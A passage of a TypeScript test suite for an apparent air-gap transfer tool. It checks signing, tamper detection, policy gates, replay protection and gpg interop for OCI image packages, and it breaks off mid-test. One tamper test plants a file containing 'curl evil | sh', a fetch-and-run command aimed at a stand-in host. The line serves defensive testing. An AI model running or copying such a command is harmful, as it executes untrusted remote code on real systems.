// pack → inspect → import as a user runs them, and the failure matrix: each refusal with its stable
// code, exit 1, nothing imported (no tag in the registry, channel state unchanged).
import assert from 'node:assert/strict';
import { cp, mkdir, readFile, unlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { verifyAuditLog } from '../../src/audit/audit-log.ts';
import { openLayoutStore } from '../../src/oci/layout/layout-store.ts';
import { PARALLEL_MIN_SIZE } from '../../src/transfer/package/parallel-bodies.ts';
import { runCliProcess } from '../helpers/cli.ts';
import type { TestLog } from '../helpers/log-server.ts';
import { createGpgHome, gpgMissing } from '../helpers/gpg.ts';
import { makeTestImage, skopeo, skopeoMissing } from '../helpers/oci-images.ts';
import { registryAvailable, registryProxy, startRegistry, type TestRegistry } from '../helpers/registry.ts';
import { useTempDir } from '../helpers/temp-dir.ts';

let registry: TestRegistry | undefined;
// Registered before the folder below (after hooks run in order): the registry stops first.
after(() => registry?.stop());
const dir = useTempDir('airlock-transfer-');
const missingRegistry = registryAvailable();
const home = (n: string) => join(dir, `home-${n}`);
const cli = (args: string[], h = 'pack') =>
  runCliProcess(args, { env: { AIRLOCK_PASSWORD: 'pw', AIRLOCK_HOME: home(h) } });
const src = () => `oci:${join(dir, 'src')}:app-1.0`;
const trust = () => ['--key', join(dir, 'img.pub'), '--insecure-ignore-tlog'];
/** What pack checks each image with: the trust import uses (its --key is --image-key here). */
const packTrust = () => ['--image-key', join(dir, 'img.pub'), '--insecure-ignore-tlog'];
const CHANNELS = ['prod', 'locked', 'x', 'twin', 'pgp'];
/** The manifest signer, and the channels this side accepts. */
const signer = () => ['--signer-key', join(dir, 'release.pub'), ...CHANNELS.flatMap((c) => ['--channel', c])];

async function pack(out: string, extra: string[] = [], h = 'pack', image = src(), trust = packTrust()) {
  return cli(
    [
      'pack',
      image,
      join(dir, 'notes.txt'),
      '-o',
      out,
      '--key',
      join(dir, 'release.key'),
      '--channel',
      'prod',
      ...trust,
      ...extra,
    ],
    h,
  );
}

before(async () => {
  const store = await openLayoutStore(join(dir, 'src'), { create: true });
  await makeTestImage(store, { tag: 'app-1.0', layers: 2, layerSize: 64_000 });
  await store.close();
  await writeFile(join(dir, 'notes.txt'), 'release notes\n');
  await writeFile(
    join(dir, 'sbom.json'),
    JSON.stringify({ spdxVersion: 'SPDX-2.3', packages: [{ name: 'a' }, { name: 'b' }, { name: 'c' }] }),
  );
  for (const k of ['release', 'img', 'other'])
    assert.equal((await cli(['key', 'generate', '--output-key-prefix', join(dir, k)])).code, 0);
  // the image is signed on the connected side before packing (its signature travels in the package)
  assert.equal((await cli(['sign', src(), '--key', join(dir, 'img.key'), '--tlog-upload=false'])).code, 0);
  if (!missingRegistry) registry = await startRegistry();
});

async function tags(repo: string): Promise<string[]> {
  if (!registry) return [];
  const res = await fetch(`${registry.url}/v2/${repo}/tags/list`);
  return res.status === 200 ? (((await res.json()) as { tags: string[] | null }).tags ?? []) : [];
}

describe('pack → inspect → import', () => {
  it(
    'packs with SBOM + scan under the gate, inspects with a Markdown report, imports; skopeo reads ' + 'the image',
    async (t) => {
      if (!registry) return t.skip(`docker-registry unavailable: ${missingRegistry}`);
      await writeFile(
        join(dir, 'scan.json'),
        JSON.stringify({
          matches: [
            { vulnerability: { id: 'CVE-2026-1', severity: 'Medium' }, artifact: { name: 'libx', version: '1.0' } },
          ],
        }),
      );
      const p = await pack(join(dir, 'p1.tar'), [
        '--sign',
        '--sbom',
        `${src()}=${join(dir, 'sbom.json')}`,
        '--scan',
        `${src()}=${join(dir, 'scan.json')}`,
        '--fail-on',
        'critical',
      ]);
      assert.equal(p.code, 0, p.stderr);
      const i = await cli(
        ['inspect', join(dir, 'p1.tar'), ...signer(), ...trust(), '--report', join(dir, 'p1.md')],
        'air',
      );
      assert.equal(i.code, 0, i.stderr);
      const md = await readFile(join(dir, 'p1.md'), 'utf8');
      assert.match(md, /verdict: \*\*VERIFIED\*\*/);
      assert.match(md, /spdx, 3 packages/);
      assert.match(
        md,
        /\| file files\/notes\.txt \| sha256:[0-9a-f]{64} \| verified: sha256:[0-9a-f]{64} \|/,
        'the file bundle was checked, not just its claim repeated',
      );
      const imp = await cli(
        [
          'import',
          join(dir, 'p1.tar'),
          '--registry',
          `${registry.host}/mirror`,
          ...signer(),
          ...trust(),
          '--insecure',
          '--json',
        ],
        'air',
      );
      assert.equal(imp.code, 0, imp.stderr);
      const report = JSON.parse(imp.stdout);
      assert.equal(report.sequence.kind, 'first');
      assert.ok((await tags('mirror/src')).includes('app-1.0'));
      if (!skopeoMissing()) {
        const inspect = JSON.parse(
          await skopeo('inspect', '--tls-verify=false', `docker://${registry.host}/mirror/src:app-1.0`),
        );
        assert.equal(inspect.Digest, report.images[0].digest);
      }
      const again = await cli(
        [
          'import',
          join(dir, 'p1.tar'),
          '--registry',
          `${registry.host}/mirror`,
          ...signer(),
          ...trust(),
          '--insecure',
          '--json',
        ],
        'air',
      );
      assert.equal(again.code, 0, 're-running the same package is idempotent');
      assert.equal(JSON.parse(again.stdout).sequence.kind, 'same-package');
    },
  );

  it('a scan over the gate refuses to pack (E_GATE, exit 1), listing the findings; nothing is written', async () => {
    await writeFile(
      join(dir, 'bad-scan.json'),
      JSON.stringify({
        matches: [
          {
            vulnerability: { id: 'CVE-2026-9', severity: 'Critical' },
            artifact: { name: 'openssl', version: '3.0.0' },
          },
        ],
      }),
    );
    const r = await pack(
      join(dir, 'never.tar'),
      ['--scan', `${src()}=${join(dir, 'bad-scan.json')}`, '--fail-on', 'critical'],
      'gate',
    );
    assert.equal(r.code, 1);
    assert.match(r.stderr, /E_GATE/);
    assert.match(r.stderr, /CVE-2026-9 \(critical\) in openssl@3\.0\.0/);
    await assert.rejects(readFile(join(dir, 'never.tar')));
  });
});

describe('pack from a damaged layout', () => {
  it('a source blob that no longer matches its digest fails the pack (verified while the tar is written)', async () => {
    const damaged = join(dir, 'damaged');
    assert.equal((await cli(['copy', src(), `oci:${damaged}:app-1.0`], 'damage')).code, 0);
    const store = await openLayoutStore(damaged, {});
    const manifest = JSON.parse((await store.getManifest((await store.resolveTag('app-1.0')).digest)).bytes.toString());
    await store.close();
    const blob = join(damaged, 'blobs', 'sha256', manifest.layers[0].digest.slice(7));
    const bytes = await readFile(blob);
    bytes[10]! ^= 1;
    await writeFile(blob, bytes);
    const r = await cli(
      [
        'pack',
        `oci:${damaged}:app-1.0`,
        '-o',
        join(dir, 'damaged.tar'),
        '--key',
        join(dir, 'release.key'),
        ...packTrust(),
      ],
      'damage',
    );
    assert.equal(r.code, 3, r.stderr);
    assert.match(r.stderr, /E_DIGEST_MISMATCH/);
    await assert.rejects(readFile(join(dir, 'damaged.tar')));
  });
});

describe('failure matrix (folder packages, mutated after packing)', () => {
  let base: string;
  before(async () => {
    base = join(dir, 'base-pkg');
    const r = await pack(base, ['--format', 'dir'], 'matrix');
    assert.equal(r.code, 0, r.stderr);
  });

  async function variant(name: string, mutate: (d: string) => Promise<void>): Promise<string> {
    const d = join(dir, `v-${name}`);
    await cp(base, d, { recursive: true });
    await mutate(d);
    return d;
  }
  async function refused(
    pkg: string,
    code: string,
    args: string[] = [...signer(), ...trust()],
    h = `m-${Math.random().toString(36).slice(2)}`,
  ) {
    const r = await cli(['inspect', pkg, ...args, '--json'], h);
    assert.equal(r.code, 1, `${code}: ${r.stderr}`);
    assert.equal(JSON.parse(r.stdout).error.code, code);
  }

  it('unsigned → E_SIGNERS', async () =>
    refused(await variant('unsigned', (d) => unlink(join(d, 'manifest.sha256.sigstore.json'))), 'E_SIGNERS'));
  it('signer not in the keyring → E_SIGNERS', async () =>
    refused(base, 'E_SIGNERS', ['--signer-key', join(dir, 'other.pub'), '--channel', 'prod', ...trust()]));
  it('fewer than K signers → E_SIGNERS', async () => {
    await writeFile(
      join(dir, 'signers-2.json'),
      JSON.stringify({
        apiVersion: 'airlock/v1',
        kind: 'Signers',
        signers: [
          { name: 'release', keys: ['release.pub'] },
          { name: 'security', keys: ['other.pub'] },
        ],
      }),
    );
    await refused(base, 'E_SIGNERS', [
      '--signers',
      join(dir, 'signers-2.json'),
      '--require-signers',
      '2',
      '--channel',
      'prod',
      ...trust(),
    ]);
  });
  it('a signature over another manifest → E_SIGNERS', async () => {
    const other = join(dir, 'other-pkg');
    assert.equal((await pack(other, ['--format', 'dir'], 'other')).code, 0);
    await refused(
      await variant('swapped-sig', (d) =>
        cp(join(other, 'manifest.sha256.sigstore.json'), join(d, 'manifest.sha256.sigstore.json')),
      ),
      'E_SIGNERS',
    );
  });
  // Signature files sign the manifest, so they are not in it: anyone in transit can add or replace one.
  it('a junk extra signature is reported, not fatal; junk as the only signature → E_SIGNERS', async () => {
    const junk: Array<[string, string]> = [
      ['not json', '{'],
      [
        'a DSSE bundle',
        JSON.stringify({ mediaType: 'application/vnd.dev.sigstore.bundle.v0.3+json', dsseEnvelope: {} }),
      ],
    ];
    for (const [why, body] of junk) {
      const extra = await variant(`junk-${why.replace(/\W/g, '')}`, (d) =>
        writeFile(join(d, 'manifest.sha256.2.sigstore.json'), body),
      );
      const r = await cli(
        ['inspect', extra, ...signer(), ...trust(), '--json'],
        `junk-${Math.random().toString(36).slice(2)}`,
      );
      assert.equal(r.code, 0, `${why}: ${r.stderr}`);
      assert.match(JSON.parse(r.stdout).signatureProblems.join('\n'), /manifest\.sha256\.2\.sigstore\.json/, why);
      await refused(
        await variant(`only-${why.replace(/\W/g, '')}`, (d) =>
          writeFile(join(d, 'manifest.sha256.sigstore.json'), body),
        ),
        'E_SIGNERS',
      );
    }
  });
  it('a file modified → E_PACKAGE_TAMPERED', async () =>
    refused(
      await variant('modified', (d) => writeFile(join(d, 'files', 'notes.txt'), 'changed\n')),
      'E_PACKAGE_TAMPERED',
    ));
  it('a file missing → E_PACKAGE_TAMPERED', async () =>
    refused(await variant('missing', (d) => unlink(join(d, 'files', 'notes.txt'))), 'E_PACKAGE_TAMPERED'));
  it('a file not listed → E_PACKAGE_TAMPERED', async () =>
    refused(
      await variant('extra', (d) => writeFile(join(d, 'files', 'extra.sh'), 'curl evil | sh\n')),
      'E_PACKAGE_TAMPERED',
    ));
  it('metadata not covered by the manifest → E_PACKAGE_TAMPERED', async () => {
    const v = await variant('meta', async (d) => {
      const meta = JSON.parse(await readFile(join(d, 'airlock-transfer.json'), 'utf8'));
      meta.sequence.number = 99;
      await writeFile(join(d, 'airlock-transfer.json'), JSON.stringify(meta));
    });
    await refused(v, 'E_PACKAGE_TAMPERED');
  });
  it('image signature missing, invalid, or by the wrong key → E_SIGNATURE_INVALID', async () => {
    await refused(base, 'E_SIGNATURE_INVALID', [
      ...signer(),
      '--key',
      join(dir, 'other.pub'),
      '--insecure-ignore-tlog',
    ]);
    const unsigned = join(dir, 'unsigned-img');
    const r = await cli(
      [
        'pack',
        `oci:${join(dir, 'src')}:app-1.0`,
        '-o',
        unsigned,
        '--format',
        'dir',
        '--key',
        join(dir, 'release.key'),
        '--channel',
        'x',
        ...packTrust(),
      ],
      'unsigned-img',
    );
    assert.equal(r.code, 0, r.stderr);
    const store = await openLayoutStore(join(unsigned, 'oci'), {});
    const refs = await store.listReferrers((await store.resolveTag('1-src-app-1.0')).digest);
    await store.close();
    assert.ok(refs.length > 0, 'the connected-side signature traveled along');
  });
});

describe('import --policy', () => {
  it('admits images signed by the authority the policy names, denies others and missing attestations', async () => {
    const pkg = join(dir, 'pol.tar');
    assert.equal((await pack(pkg, [], 'policy')).code, 0);
    const policy = (key: string, attestations: string[] = [], glob = 'oci:**/src') =>
      JSON.stringify({
        apiVersion: 'airlock/v1',
        kind: 'ImagePolicy',
        images: [{ glob, authorities: [{ key }], attestations }],
      });
    const run = async (text: string) => {
      await writeFile(join(dir, 'policy.json'), text);
      const r = await cli(
        ['inspect', pkg, ...signer(), '--policy', join(dir, 'policy.json'), '--insecure-ignore-tlog', '--json'],
        `pol-${Math.random().toString(36).slice(2)}`,
      );
      return { code: r.code, doc: JSON.parse(r.stdout || '{}'), stderr: r.stderr };
    };
    const ok = await run(policy('img.pub'));
    assert.equal(ok.code, 0, ok.stderr);
    const wrongKey = await run(policy('other.pub'));
    assert.equal(wrongKey.code, 1);
    assert.equal(wrongKey.doc.error.code, 'E_POLICY_DENIED');
    const needsSbom = await run(policy('img.pub', ['spdxjson']));
    assert.equal(needsSbom.doc.error.code, 'E_POLICY_DENIED');
    assert.match(needsSbom.doc.error.message, /spdx\.dev\/Document attestation/);
    const notListed = await run(policy('img.pub', [], 'registry.corp/**'));
    assert.equal(notListed.doc.error.code, 'E_POLICY_DENIED');
    const conflict = await cli(
      ['inspect', pkg, ...signer(), '--policy', join(dir, 'policy.json'), '--key', join(dir, 'img.pub')],
      'pol-conflict',
    );
    assert.equal(conflict.code, 2);
  });

  // Attack: a package named so a lax entry admits it, landing where a strict entry guards.
  it('at import, the entries for where the image lands apply too', async (t) => {
    if (!registry) return t.skip(`docker-registry unavailable: ${missingRegistry}`);
    const pkg = join(dir, 'pol-dest.tar');
    assert.equal((await pack(pkg, [], 'policy-dest')).code, 0);
    await writeFile(
      join(dir, 'dest-policy.json'),
      JSON.stringify({
        apiVersion: 'airlock/v1',
        kind: 'ImagePolicy',
        images: [
          { glob: 'oci:**', authorities: [{ key: 'img.pub' }] },
          { glob: '127.0.0.1:*/prod/**', authorities: [{ key: 'other.pub' }] },
        ],
      }),
    );
    const imp = (prefix: string) =>
      cli(
        [
          'import',
          pkg,
          '--registry',
          `${registry?.host}/${prefix}`,
          ...signer(),
          '--policy',
          join(dir, 'dest-policy.json'),
          '--insecure-ignore-tlog',
          '--insecure',
          '--json',
        ],
        `pol-dest-${prefix}`,
      );
    const prod = await imp('prod');
    assert.equal(prod.code, 1, prod.stderr);
    assert.equal(JSON.parse(prod.stdout).error.code, 'E_POLICY_DENIED');
    assert.match(JSON.parse(prod.stdout).error.message, /prod\/\*\*/);
    assert.deepEqual(await tags('prod/src'), []);
    const dev = await imp('dev');
    assert.equal(dev.code, 0, dev.stderr);
  });

  it(
    'two images that would land on one repository and tag are refused at pack, before anything is ' + 'written',
    async () => {
      const twin = join(dir, 'twin', 'src');
      assert.equal((await cli(['copy', src(), `oci:${twin}:app-1.0`], 'twin')).code, 0);
      const pkg = join(dir, 'twin.tar');
      const p = await cli(
        [
          'pack',
          src(),
          `oci:${twin}:app-1.0`,
          '-o',
          pkg,
          '--key',
          join(dir, 'release.key'),
          '--channel',
          'twin',
          ...packTrust(),
          '--json',
        ],
        'twin',
      );
      assert.equal(p.code, 1, p.stderr);
      assert.equal(JSON.parse(p.stdout).error.code, 'E_DESTINATION_CONFLICT');
      assert.match(JSON.parse(p.stdout).error.hint, /--name/);
      await assert.rejects(readFile(pkg));
      const named = await cli(
        [
          'pack',
          src(),
          `oci:${twin}:app-1.0`,
          '-o',
          pkg,
          '--key',
          join(dir, 'release.key'),
          '--channel',
          'twin',
          ...packTrust(),
          '--name',
          `oci:${twin}:app-1.0=twin/app:1.0`,
        ],
        'twin',
      );
      assert.equal(named.code, 0, named.stderr);
    },
  );
});

describe('a registry failing mid-import', () => {
  it('leaves nothing tagged and the channel unchanged; a re-run succeeds', async (t) => {
    if (!registry) return t.skip(`docker-registry unavailable: ${missingRegistry}`);
    let uploads = 0;
    // Breaks the second blob upload, as a registry running out of disk would.
    const proxy = await registryProxy(registry.host, (req, res) => {
      if (!(req.method === 'PUT' && req.url?.includes('/blobs/uploads/') && ++uploads === 2)) return false;
      req.resume();
      res
        .writeHead(500, { 'content-type': 'application/json' })
        .end('{"errors":[{"code":"UNKNOWN","message":"disk full"}]}');
      return true;
    });
    const proxyHost = proxy.host;
    try {
      const pkg = join(dir, 'mid.tar');
      assert.equal((await pack(pkg, [], 'mid')).code, 0);
      const failed = await cli(
        ['import', pkg, '--registry', `${proxyHost}/mid`, ...signer(), ...trust(), '--insecure'],
        'mid-air',
      );
      assert.equal(failed.code, 3, failed.stderr);
      assert.deepEqual(await tags('mid/src'), [], 'nothing tagged');
      await assert.rejects(readFile(join(home('mid-air'), 'channels', 'in', 'prod.json')), 'channel state unchanged');
      const ok = await cli(
        ['import', pkg, '--registry', `${registry.host}/mid`, ...signer(), ...trust(), '--insecure'],
        'mid-air',
      );
      assert.equal(ok.code, 0, ok.stderr);
      assert.ok((await tags('mid/src')).includes('app-1.0'));
    } finally {
      proxy.close();
    }
  });
});

describe('import streams layers into upload sessions, committed only after every check', () => {
  it('a refused import leaves none of its layers retrievable; an accepted one commits them', async (t) => {
    if (!registry) return t.skip(`docker-registry unavailable: ${missingRegistry}`);
    const patches: string[] = [];
    let refusePatch = false;
    // Counts PATCHes: shows the layers went through upload sessions before any check ended.
    const proxy = await registryProxy(registry.host, (req, res) => {
      if (req.method !== 'PATCH') return false;
      patches.push(req.url ?? '');
      if (!refusePatch || patches.length !== 2) return false;
      // Answers before the body is in, as a registry out of disk would: the import must not hang.
      res
        .writeHead(500, { 'content-type': 'application/json', connection: 'close' })
        .end('{"errors":[{"code":"UNKNOWN","message":"disk full"}]}');
      req.destroy();
      return true;
    });
    const proxyHost = proxy.host;
    // Layers large enough to be read side by side (transfer/package/parallel-bodies.ts), each into its own session.
    const bigDir = join(dir, 'big', 'src');
    const store = await openLayoutStore(bigDir, { create: true });
    await makeTestImage(store, { tag: 'app-1.0', layers: 2, layerSize: PARALLEL_MIN_SIZE + 1000 });
    const { parseManifestJson } = await import('../../src/oci/manifest.ts');
    const image = parseManifestJson(await store.getManifest((await store.resolveTag('app-1.0')).digest));
    await store.close();
    const big = `oci:${bigDir}:app-1.0`;
    assert.equal((await cli(['sign', big, '--key', join(dir, 'img.key'), '--tlog-upload=false'])).code, 0);
    const layerDigests = 'layers' in image ? image.layers.map((l) => l.digest) : [];
    assert.equal(layerDigests.length, 2);
    const present = async (repo: string) =>
      Promise.all(
        layerDigests.map(
          async (d) => (await fetch(`${registry?.url}/v2/${repo}/blobs/${d}`, { method: 'HEAD' })).status,
        ),
      );
    try {
      const pkg = join(dir, 'streamed.tar');
      assert.equal((await pack(pkg, [], 'streamed', big)).code, 0);
      const refused = await cli(
        [
          'import',
          pkg,
          '--registry',
          `${proxyHost}/streamed`,
          ...signer(),
          '--key',
          join(dir, 'other.pub'),
          '--insecure-ignore-tlog',
          '--insecure',
          '--json',
        ],
        'streamed-air',
      );
      assert.equal(refused.code, 1, refused.stderr);
      assert.equal(JSON.parse(refused.stdout).error.code, 'E_SIGNATURE_INVALID');
      assert.equal(patches.length, 2, 'both layers were streamed into upload sessions while the package was read');
      assert.deepEqual(await present('streamed/src'), [404, 404], 'no layer of a refused import is in the repository');
      assert.deepEqual(await tags('streamed/src'), []);

      // A layer changed in a folder package: streamed, found different at its end, never committed.
      const folder = join(dir, 'streamed-dir');
      assert.equal((await pack(folder, ['--format', 'dir'], 'streamed-dir', big)).code, 0);
      const layerFile = join(folder, 'oci', 'blobs', 'sha256', layerDigests[1]!.slice('sha256:'.length));
      const bytes = await readFile(layerFile);
      bytes[bytes.length - 1]! ^= 0xff;
      await writeFile(layerFile, bytes);
      const tampered = await cli(
        ['import', folder, '--registry', `${proxyHost}/streamed-dir`, ...signer(), ...trust(), '--insecure', '--json'],
        'streamed-dir-air',
      );
      assert.equal(tampered.code, 1, tampered.stderr);
      assert.equal(JSON.parse(tampered.stdout).error.code, 'E_PACKAGE_TAMPERED');
      assert.deepEqual(await present('streamed-dir/src'), [404, 404]);

      patches.length = 0;
      refusePatch = true;
      const broken = await cli(
        ['import', pkg, '--registry', `${proxyHost}/streamed`, ...signer(), ...trust(), '--insecure', '--json'],
        'streamed-air',
      );
      assert.equal(broken.code, 3, broken.stderr);
      assert.deepEqual(await present('streamed/src'), [404, 404]);
      assert.deepEqual(await tags('streamed/src'), []);
      refusePatch = false;
      patches.length = 0;
      const ok = await cli(
        ['import', pkg, '--registry', `${proxyHost}/streamed`, ...signer(), ...trust(), '--insecure'],
        'streamed-air',
      );
      assert.equal(ok.code, 0, ok.stderr);
      assert.equal(patches.length, 2);
      assert.deepEqual(await present('streamed/src'), [200, 200]);
      assert.ok((await tags('streamed/src')).includes('app-1.0'));
    } finally {
      proxy.close();
    }
  });
});

describe('approve: a second signer for a two-person rule', () => {
  it(
    'approve verifies, then adds a signature without touching anything else; --require-signers 2 ' + 'then passes',
    async () => {
      const pkg = join(dir, 'ap.tar');
      assert.equal((await pack(pkg, [], 'approve')).code, 0);
      await writeFile(
        join(dir, 'signers-ap.json'),
        JSON.stringify({
          apiVersion: 'airlock/v1',
          kind: 'Signers',
          signers: [
            { name: 'release-team', keys: ['release.pub'] },
            { name: 'security-team', keys: ['other.pub'] },
          ],
        }),
      );
      const two = [
        '--signers',
        join(dir, 'signers-ap.json'),
        '--require-signers',
        '2',
        '--channel',
        'prod',
        ...trust(),
      ];
      const before = await cli(['inspect', pkg, ...two, '--json'], 'ap-air1');
      assert.equal(before.code, 1);
      assert.equal(JSON.parse(before.stdout).error.code, 'E_SIGNERS');
      const approved = join(dir, 'ap-approved.tar');
      const a = await cli(
        ['approve', pkg, '-o', approved, '--key', join(dir, 'other.key'), '--signers', join(dir, 'signers-ap.json')],
        'approve',
      );
      assert.equal(a.code, 0, a.stderr);
      assert.match(a.stderr, /signed by {2}release-team: sigstore-key/);
      const after = await cli(['inspect', approved, ...two, '--json'], 'ap-air2');
      assert.equal(after.code, 0, after.stderr);
      assert.deepEqual(
        JSON.parse(after.stdout).signers.map((s: { signer: string }) => s.signer),
        ['release-team', 'security-team'],
      );
      const { execFileSync } = await import('node:child_process');
      const list = (f: string) => execFileSync('tar', ['-tf', f], { encoding: 'utf8' }).trim().split('\n');
      assert.deepEqual(
        list(approved).filter((p) => p !== 'manifest.sha256.2.sigstore.json'),
        list(pkg),
        'only the new signature was added',
      );
      assert.equal(list(approved)[3], 'manifest.sha256.2.sigstore.json', 'signatures stay among the leading entries');
    },
  );
});

describe('sequence: replay, older, gap', () => {
  // Two imports on one channel at once would both read the same last package and both pass as "next".
  it('an import while another holds the channel is refused (E_UNAVAILABLE, exit 3); nothing is tagged', async (t) => {
    if (!registry) return t.skip(`docker-registry unavailable: ${missingRegistry}`);
    const pkg = join(dir, 'locked.tar');
    assert.equal(
      (
        await cli(
          ['pack', src(), '-o', pkg, '--key', join(dir, 'release.key'), '--channel', 'locked', ...packTrust()],
          'lock-pack',
        )
      ).code,
      0,
    );
    const lock = join(home('lock-air'), 'channels', 'in', 'locked.lock');
    await mkdir(join(home('lock-air'), 'channels', 'in'), { recursive: true });
    await writeFile(lock, `${process.pid}\n`); // a live process holds it: this test runner
    const imp = () =>
      cli(
        ['import', pkg, '--registry', `${registry?.host}/locked`, ...signer(), ...trust(), '--insecure', '--json'],
        'lock-air',
      );
    const refused = await imp();
    assert.equal(refused.code, 3, refused.stderr);
    assert.match(refused.stderr, /channel locked is in use by process \d+ \[E_UNAVAILABLE\]/);
    assert.deepEqual(await tags('locked/src'), []);
    assert.equal(await readFile(lock, 'utf8'), `${process.pid}\n`, 'a lock it did not take is left alone');
    await unlink(lock);
    const ok = await imp();
    assert.equal(ok.code, 0, ok.stderr);
    await assert.rejects(readFile(lock), 'released after the import');
  });

  it('refuses a replayed or older package and a gap without --allow-gap; nothing is tagged', async (t) => {
    if (!registry) return t.skip(`docker-registry unavailable: ${missingRegistry}`);
    const h = 'seq-pack';
    const p1 = join(dir, 's1.tar');
    const p2 = join(dir, 's2.tar');
    const p3 = join(dir, 's3.tar');
    for (const p of [p1, p2, p3]) assert.equal((await pack(p, [], h)).code, 0);
    const imp = (p: string, extra: string[] = []) =>
      cli(
        ['import', p, '--registry', `${registry?.host}/seq`, ...signer(), ...trust(), '--insecure', '--json', ...extra],
        'seq-air',
      );
    const first = await imp(p1);
    assert.equal(first.code, 0, first.stderr);
    assert.equal(JSON.parse(first.stdout).connectedAudit.verdict.kind, 'first');
    const gap = await imp(p3);
    assert.equal(gap.code, 1);
    assert.equal(JSON.parse(gap.stdout).error.code, 'E_SEQUENCE');
    const second = await imp(p2);
    assert.equal(second.code, 0, second.stderr);
    // The connected side's audit log grew by the packs in between, provably without rewriting.
    const carried = JSON.parse(second.stdout).connectedAudit;
    assert.equal(carried.verdict.kind, 'extends', carried.verdict.detail);
    assert.match(carried.verdict.detail, /size \d+ → \d+, proof of \d+ hashes/);
    const replay = await imp(p1);
    assert.equal(replay.code, 1, 'an older package after a newer one is refused');
    assert.equal(JSON.parse(replay.stdout).error.code, 'E_SEQUENCE');
    assert.equal((await imp(p3)).code, 0);
    const state = JSON.parse(await readFile(join(home('seq-air'), 'channels', 'in', 'prod.json'), 'utf8'));
    assert.equal(state.number, 3);
  });

  it('--allow-gap accepts a skip, recorded', async (t) => {
    if (!registry) return t.skip(`docker-registry unavailable: ${missingRegistry}`);
    const h = 'gap-pack';
    const a = join(dir, 'g1.tar');
    const b = join(dir, 'g2.tar');
    const c = join(dir, 'g3.tar');
    for (const p of [a, b, c]) assert.equal((await pack(p, [], h)).code, 0);
    const imp = (p: string, extra: string[] = []) =>
      cli(
        ['import', p, '--registry', `${registry?.host}/gap`, ...signer(), ...trust(), '--insecure', '--json', ...extra],
        'gap-air',
      );
    assert.equal((await imp(a)).code, 0);
    const r = await imp(c, ['--allow-gap']);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(JSON.parse(r.stdout).sequence.kind, 'gap-allowed');
    // The skipped package does not break the audit chain: each package proves consistency from older ones too.
    assert.equal(
      JSON.parse(r.stdout).connectedAudit.verdict.kind,
      'extends',
      JSON.parse(r.stdout).connectedAudit.verdict.detail,
    );
    const events = (await verifyAuditLog(home('gap-air'))).events.filter((e) => e.event.action === 'transfer.import');
    assert.equal(events.at(-1)?.event.result, 'ok');
    assert.equal((events.at(-1)?.event.details?.sequence as { kind?: string } | undefined)?.kind, 'gap-allowed');
  });
});

describe('OpenPGP: gpg interop', () => {
  it(
    'a package signed with a gpg-exported key verifies with gpg --verify and sha256sum -c after ' +
      'tar -x; a gpg inline signature is accepted',
    async (t) => {
      const missing = gpgMissing();
      if (missing) return t.skip(missing);
      const gpg = await createGpgHome();
      try {
        const fingerprint = await gpg.generateKey('Release Team <release@example.com>', 'ed25519');
        await writeFile(join(dir, 'release-secret.asc'), await gpg.exportSecret(fingerprint));
        await writeFile(join(dir, 'release-public.asc'), await gpg.exportPublic(fingerprint));
        const out = join(dir, 'pgp.tar');
        const r = await cli(
          ['pack', src(), '-o', out, '--pgp-key', join(dir, 'release-secret.asc'), '--channel', 'pgp', ...packTrust()],
          'pgp',
        );
        assert.equal(r.code, 0, r.stderr);
        const x = join(dir, 'pgp-x');
        const { execFileSync } = await import('node:child_process');
        execFileSync('mkdir', ['-p', x]);
        execFileSync('tar', ['-xf', out, '-C', x]);
        await gpg.ok(['--import', join(dir, 'release-public.asc')]);
        await gpg.ok(['--verify', join(x, 'manifest.sha256.asc'), join(x, 'manifest.sha256')]);
        execFileSync('sha256sum', ['-c', '--quiet', 'manifest.sha256'], { cwd: x });
        const ok = await cli(
          ['inspect', out, '--keyring', join(dir, 'release-public.asc'), '--channel', 'pgp', ...trust()],
          'pgp-air',
        );
        assert.equal(ok.code, 0, ok.stderr);
        // the seed's form: gpg --armor --sign manifest.sha256 (an inline signed message)
        await gpg.ok([
          '--yes',
          '--armor',
          '--local-user',
          fingerprint,
          '--pinentry-mode',
          'loopback',
          '--passphrase',
          '',
          '--output',
          join(dir, 'inline.asc'),
          '--sign',
          join(x, 'manifest.sha256'),
        ]);
        await cp(join(dir, 'inline.asc'), join(x, 'manifest.sha256.asc'));
        const inline = await cli(
          ['inspect', x, '--keyring', join(dir, 'release-public.asc'), '--channel', 'pgp', ...trust()],
          'pgp-air2',
        );
        assert.equal(inline.code, 0, inline.stderr);
        await writeFile(
          join(x, 'manifest.sha256.asc'),
          '-----BEGIN PGP SIGNATURE-----\n\ngarbage\n-----END PGP SIGNATURE-----\n',
        );
        const junk = await cli(
          ['inspect', x, '--keyring', join(dir, 'release-public.asc'), '--channel', 'pgp', ...trust(), '--json'],
          'pgp-air3',
        );
        assert.equal(junk.code, 1, `an unreadable signature is a refusal, not a crash: ${junk.stderr}`);
        assert.equal(JSON.parse(junk.stdout).error.code, 'E_SIGNERS');
      } finally {
        await gpg.cleanup();
      }
    },
  );
});

describe('import --rekor-url: imported signatures in the on-prem log', () => {
  it(
    'logs each verified signature, attaches the bundle with its entry, and a verifier trusting ' +
      'only that log accepts the image',
    async (t) => {
      if (!registry) return t.skip(`docker-registry unavailable: ${missingRegistry}`);
      const { writeTrustedRootFor } = await import('../helpers/log-server.ts');
      await withLog('onprem', async (log) => {
        const pkg = join(dir, 'rk.tar');
        assert.equal((await pack(pkg, [], 'rk-pack')).code, 0);
        const vkey = join(log.dataDir, 'log.vkey');
        const imp = () =>
          cli(
            [
              'import',
              pkg,
              '--registry',
              `${registry?.host}/rk`,
              ...signer(),
              ...trust(),
              '--rekor-url',
              log.url,
              '--rekor-vkey',
              vkey,
              '--insecure',
              '--json',
            ],
            'rk-air',
          );
        const unpinned = await cli(
          ['import', pkg, '--registry', `${registry?.host}/rk`, ...signer(), ...trust(), '--rekor-url', log.url],
          'rk-air',
        );
        assert.equal(unpinned.code, 2, 'the log key must be pinned');
        assert.match(unpinned.stderr, /--rekor-url needs --rekor-vkey .*\[E_USAGE\]/);
        // The log's key is pinned: an entry from a log signing with another key is never attached.
        const { encodeVerifierKey } = await import('../../src/log/note-keys.ts');
        const { generateKeyPairSync } = await import('node:crypto');
        const wrongKey = encodeVerifierKey(log.origin, generateKeyPairSync('ed25519').publicKey);
        const wrong = await cli(
          [
            'import',
            pkg,
            '--registry',
            `${registry?.host}/rk-wrong`,
            ...signer(),
            ...trust(),
            '--rekor-url',
            log.url,
            '--rekor-vkey',
            wrongKey,
